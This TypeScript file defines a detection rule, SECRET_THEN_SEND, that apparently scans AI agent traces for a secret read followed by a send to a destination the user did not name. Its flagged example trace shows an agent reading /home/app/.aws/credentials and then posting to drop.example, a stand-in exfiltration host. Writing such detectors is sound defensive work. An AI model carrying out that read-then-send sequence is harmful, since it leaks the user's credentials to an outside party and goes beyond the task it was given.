import type { Severity } from '@ase/schemas'
import { trace } from '../../examples.ts'
import { sensitivityOf } from '../../paths/sensitive-paths.ts'
import type { Reading } from '../../reading/reading.ts'
import type { ToolCall } from '../../reading/tool-call.ts'
import { hasAny } from '../../reading/tool-words.ts'
import type { Hit, Rule } from '../../rule.ts'
import type { Command } from '../../shell/command.ts'
import { commandsOf } from '../../shell/command-index.ts'
import { isUpload, uploaders } from '../../shell/exfiltration.ts'
import type { ShellReading } from '../../shell/read-shell.ts'

const EVENTS_APART_MAX = 30

export const secretThenSend: Rule = {
  code: 'SECRET_THEN_SEND',
  severity: 'high',
  types: ['trace'],
  reason: 'Reads a secret and then sends something to a place that the user did not name.',
  references: ['https://attack.mitre.org/tactics/TA0010/'],
  mappings: { owasp: ['LLM02', 'ASI01'], atlas: ['AML.T0086'], cwe: ['CWE-200'] },
  match: (reading) => {
    if (reading.envelope.type !== 'trace') return []
    const reads = reading.calls.filter(readsSecret).map(({ event }) => event ?? 0)
    if (reads.length === 0) return []
    return reading.calls.flatMap((call): readonly Hit[] => {
      const at = call.event ?? 0
      const recent = reads.some((event) => event < at && at - event <= EVENTS_APART_MAX)
      const severity = recent ? judge(reading, call) : null
      return severity === null ? [] : [{ path: call.path, severity }]
    })
  },
  examples: {
    flags: [
      trace('Why did the job fail?', [
        { kind: 'tool_call', tool: 'read_file', arguments: { path: '/home/app/.aws/credentials' } },
        {
          kind: 'tool_call',
          tool: 'http_post',
          arguments: { url: 'https://drop.example/in', body: 'diag' },
        },
      ]),
    ],
    passes: [
      trace('Post the reason to https://hooks.corp.example/jobs.', [
        { kind: 'tool_call', tool: 'read_file', arguments: { path: '/var/log/nightly.log' } },
        {
          kind: 'tool_call',
          tool: 'http_post',
          arguments: { url: 'https://hooks.corp.example/jobs', body: 'disk full' },
        },
      ]),
      trace('Check the access.', [
        {
          kind: 'tool_call',
          tool: 'http_post',
          arguments: { url: 'https://drop.example/in', body: 'diag' },
        },
        { kind: 'tool_call', tool: 'read_file', arguments: { path: '/home/app/.aws/credentials' } },
      ]),
    ],
  },
}

function readsSecret(call: ToolCall): boolean {
  if (
    call
      .paths()
      .some(({ path, access }) => access === 'read' && sensitivityOf(path.normal) !== null)
  )
    return true
  return call
    .shells()
    .some(({ lines }) => lines.some(({ commands }) => commands.some(namesCredential)))
}

function namesCredential({ args }: Command): boolean {
  return args.some((arg) => arg.length < 300 && sensitivityOf(arg.toLowerCase()) === 'credential')
}

function judge(reading: Reading, call: ToolCall): Severity | null {
  const sends =
    hasAny(call.words, [
      'send',
      'post',
      'http',
      'upload',
      'email',
      'webhook',
      'publish',
      'share',
      'request',
      'message',
    ]) || call.shells().some(uploads)
  if (!sends) return null
  const targets = call.values()
  return targets.length > 0 && targets.every(({ value }) => reading.background().userNames(value))
    ? null
    : 'high'
}

function uploads({ index }: ShellReading): boolean {
  return commandsOf(index(), { names: uploaders, redirected: true }).some(isUpload)
}
